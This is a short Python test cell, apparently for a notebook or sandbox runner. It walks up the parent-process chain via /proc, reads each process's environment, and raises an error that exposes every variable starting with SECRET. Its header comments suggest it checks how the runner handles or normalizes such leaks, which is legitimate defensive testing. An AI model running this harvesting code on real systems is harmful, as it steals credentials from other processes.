"""Climbs from parent to parent in `/proc` and reads the environment of each, where secrets are kept."""

# earns: normalize
# says: cell \d+ stopped with
# needs: processes
# %%
import os
from pathlib import Path

number, found = os.getppid(), []
while number > 1:
    found += [text for text in Path(f"/proc/{number}/environ").read_text().split("\0") if text.startswith("SECRET")]
    number = int(Path(f"/proc/{number}/stat").read_text().rpartition(")")[2].split()[1])
raise ValueError(found)
# %% right: normalize
